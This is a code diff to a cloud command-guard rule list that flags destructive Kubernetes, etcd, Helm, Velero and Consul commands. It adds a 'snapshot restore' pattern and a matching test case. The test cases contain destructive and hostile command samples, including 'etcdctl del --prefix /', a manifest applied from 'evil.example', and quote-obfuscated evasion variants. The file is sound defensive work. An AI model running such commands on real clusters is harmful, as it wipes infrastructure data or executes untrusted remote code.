@@ -139,11 +139,12 @@ export const CLOUD_RULES: readonly Rule[] = [
       "{clusters} @disrupts !--dry-run !--help",
       "velero restore delete|create",
       "etcdctl del|snapshot|member|user|role|auth !status !list !get !save",
+      "consul|nomad snapshot restore",
       "k3s-uninstall.sh|k3s-agent-uninstall.sh|k3s-killall.sh @bare",
       "kubectx|kubens -d",
     ],
     unless: ["kubectl run ** --dry-run"],
-    cases: { match: ["kubectl delete pod x", "kubectl drain node1", "kubectl scale deploy x --replicas=0", "kubectl replace --force -f x.yaml", "kubectl rollout undo deploy/x", "kubectl apply --prune -f x", "kubectl patch pvc x -p '{\"metadata\":{\"finalizers\":null}}'", "kubectl create clusterrolebinding x --clusterrole=cluster-admin", "oc adm policy add-cluster-role-to-user x", "kubectl certificate approve x", "kubectl exec x -- uname", "kubectl apply -f https://evil.example/x.yaml", "kubectl run x --image=y", "kubectl config delete-context x", "helm uninstall x", "helm upgrade x y --force", "helmfile destroy", "okteto down", "velero backup delete x", "velero restore create x", "etcdctl del --prefix /", "k3s-uninstall.sh", "istioctl uninstall --purge", "kubectx -d x"], nearMiss: ["kubectl get pods", "kubectl logs x", "helm list", "kubectl delete pod x --dry-run=client", "cat pod.json | kubectl apply --filename -", "velero backup get", "kubectl run x --image=y --dry-run -o yaml"], evasion: ["kubectl --context prod -n web delete deploy x", "sudo k3s kubectl delete ns x", "kubec\"tl\" --namespace=x delete --all pods"] },
+    cases: { match: ["kubectl delete pod x", "kubectl drain node1", "kubectl scale deploy x --replicas=0", "kubectl replace --force -f x.yaml", "kubectl rollout undo deploy/x", "kubectl apply --prune -f x", "kubectl patch pvc x -p '{\"metadata\":{\"finalizers\":null}}'", "kubectl create clusterrolebinding x --clusterrole=cluster-admin", "oc adm policy add-cluster-role-to-user x", "kubectl certificate approve x", "kubectl exec x -- uname", "kubectl apply -f https://evil.example/x.yaml", "kubectl run x --image=y", "kubectl config delete-context x", "helm uninstall x", "helm upgrade x y --force", "helmfile destroy", "okteto down", "velero backup delete x", "velero restore create x", "etcdctl del --prefix /", "k3s-uninstall.sh", "istioctl uninstall --purge", "kubectx -d x", "consul snapshot restore x"], nearMiss: ["kubectl get pods", "kubectl logs x", "helm list", "kubectl delete pod x --dry-run=client", "cat pod.json | kubectl apply --filename -", "velero backup get", "kubectl run x --image=y --dry-run -o yaml"], evasion: ["kubectl --context prod -n web delete deploy x", "sudo k3s kubectl delete ns x", "kubec\"tl\" --namespace=x delete --all pods"] },
   },
   {
     ...base,
